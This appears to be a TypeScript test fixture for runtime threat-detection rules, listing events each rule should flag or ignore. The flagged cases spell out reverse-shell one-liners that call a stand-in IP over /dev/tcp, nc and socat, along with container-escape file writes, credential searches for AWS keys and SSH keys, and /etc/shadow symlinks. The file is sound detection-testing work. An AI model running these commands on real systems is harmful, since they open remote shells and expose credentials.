/** Cases of the rules of class `threat`. */
import type { RuleCases } from "./cases.ts";
import {
  datadogHit,
  exec,
  falcoHit,
  file,
  kernel,
  network,
  onHost,
  tetragonHit,
  traceeHit,
} from "./events.ts";

export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
  "reverse-shell": {
    fires: [
      datadogHit("php_shell"),
      traceeHit("TRC-101"),
      exec("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
      exec("sh -c mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.7 4444 > /tmp/f"),
      exec(`python3 -c import os,pty;os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`),
      exec(`perl -e use Socket;connect(S,sockaddr_in(1234,$a));exec("/bin/sh -i");`),
      falcoHit("Redirect STDOUT/STDIN to Network Connection in Container"),
    ],
    stays: [
      exec("bash -c echo hello > /dev/null"),
      exec("python3 -c print(1)"),
      exec("perl -e use Socket;connect(S,sockaddr_in(1234,$a));"),
      exec("sh -c mkfifo /tmp/f"),
    ],
  },
  "netcat-exec": {
    fires: [
      datadogHit("socat_shell"),
      exec("nc -e /bin/sh 203.0.113.7 4444"),
      onHost(exec("socat TCP:203.0.113.7:4444 EXEC:/bin/sh")),
      falcoHit("Netcat Remote Code Execution in Container"),
    ],
    stays: [exec("nc -z db 5432"), exec("socat TCP-LISTEN:80 TCP:db:80")],
  },
  "web-server-spawned-shell": {
    fires: [
      datadogHit("potential_web_shell_parent"),
      traceeHit("TRC-1016"),
      exec("sh -c id", { parent: { name: "nginx" } }),
      falcoHit("Web Server Spawned Shell"),
    ],
    stays: [
      exec("nginx: worker", { parent: { name: "nginx" } }),
      exec("sh -c id", { parent: { name: "tini" } }),
    ],
  },
  "database-spawned-process": {
    fires: [
      datadogHit("database_shell_execution"),
      exec("sh -c id", { parent: { name: "postgres" } }),
      falcoHit("DB program spawned process"),
    ],
    stays: [
      exec("sh -c cp pg_wal/000000010000 /archive", { parent: { name: "postgres" } }),
      exec("sh -c id", { parent: { name: "psql" } }),
    ],
  },
  "fileless-exec": {
    fires: [
      datadogHit("memfd_create"),
      traceeHit("fileless_execution", { process: { name: "3" } }),
      exec("x", { exe: "/memfd:x" }),
      exec("x", { exe: "memfd: (deleted)" }),
      falcoHit("Fileless execution via memfd_create"),
      tetragonHit("exec-fileless", { process: { name: "x" } }),
    ],
    stays: [
      traceeHit("fileless_execution", { process: { name: "runc:[2:INIT]" } }),
      tetragonHit("exec-fileless", { process: { name: "runc" } }),
      exec("runc init", { exe: "/memfd:runc_cloned:/proc/self/exe" }),
      exec("/usr/bin/x"),
    ],
  },
  "install-script-network-tool": {
    fires: [falcoHit("Network Tool Executed During NPM Package Install")],
    stays: [exec("curl https://example.com", { parent: { name: "npm" } })],
  },
  "jndi-class-download": {
    fires: [
      network("connect", { ip: "203.0.113.7", port: 1389 }, "java"),
      falcoHit("Java Process Class File Download"),
    ],
    stays: [
      network("connect", { ip: "10.1.2.3", port: 1389 }, "java"),
      network("connect", { ip: "203.0.113.7", port: 443 }, "java"),
    ],
  },
  "container-escape": {
    fires: [
      datadogHit("overwrite_entrypoint"),
      traceeHit("cgroup_release_agent"),
      traceeHit("TRC-1031"),
      file("write", "/sys/fs/cgroup/rdma/release_agent", "sh"),
      file("write", "/proc/sys/kernel/core_pattern", "sh"),
      falcoHit("Detect release_agent File Container Escapes"),
    ],
    stays: [
      file("read", "/proc/sys/kernel/core_pattern", "sh"),
      file("write", "/sys/fs/cgroup/cpu.max", "runc"),
    ],
  },
  "static-pod-written": {
    fires: [
      onHost(file("create", "/etc/kubernetes/manifests/x.yaml", "sh")),
      tetragonHit("deny-write-to-etc-kubernetes-manifests"),
    ],
    stays: [
      onHost(file("write", "/etc/kubernetes/kubelet.conf", "sh")),
      onHost(file("write", "/etc/kubernetes/manifests/etcd.yaml", "kubeadm")),
      onHost(file("read", "/etc/kubernetes/manifests/etcd.yaml", "kubelet")),
    ],
  },
  "local-privilege-escalation": {
    fires: [
      datadogHit("looney_tunables_exploit"),
      falcoHit("Sudo Potential Privilege Escalation"),
      tetragonHit("cve-2023-2460-overlayfs-ubuntu"),
    ],
    stays: [exec("sudo -l")],
  },
  "sshd-backdoor": {
    fires: [
      falcoHit("Backdoored library loaded into SSHD (CVE-2024-3094)"),
      tetragonHit("cve-2024-3094-xz-ssh"),
    ],
    stays: [onHost(exec("/usr/sbin/sshd -D"))],
  },
  "kernel-hooked": {
    fires: [
      datadogHit("rootkit_activation"),
      traceeHit("DRV-002"),
      traceeHit("hooked_seq_ops_detector"),
      traceeHit("TRC-1020"),
    ],
    stays: [traceeHit("TRC-1017"), onHost(kernel("load_module", "insmod"))],
  },
  "credential-search": {
    fires: [
      exec("grep -r aws_secret_access_key /"),
      exec("find / -name id_rsa"),
      falcoHit("Find AWS Credentials"),
    ],
    stays: [exec("grep -r password /app/src"), exec("ssh-keygen -f id_rsa")],
  },
  "link-to-sensitive-file": {
    fires: [
      exec("ln -s /etc/shadow /tmp/x"),
      falcoHit("Create Symlink Over Sensitive Files"),
      tetragonHit("sys-linkat-passwd"),
    ],
    stays: [exec("ln -s /etc/nginx/sites-available/a /etc/nginx/sites-enabled/a")],
  },
  "directory-traversal-read": {
    fires: [
      file("open", "/var/www/../../etc/passwd", "httpd"),
      falcoHit("Directory traversal monitored file read"),
    ],
    stays: [file("open", "/etc/passwd", "httpd"), file("open", "/app/../lib/x.so", "node")],
  },
  "crypto-miner": {
    fires: [
      datadogHit("mining_pool_lookup"),
      exec("xmrig -o pool:3333"),
      exec("/opt/a -o stratum+tcp://pool.example:3333"),
      falcoHit("Known Cryptominer Process Executed"),
    ],
    stays: [exec("/opt/a --threads 4"), { ...exec("xmrig"), action: "exit" }],
  },
};
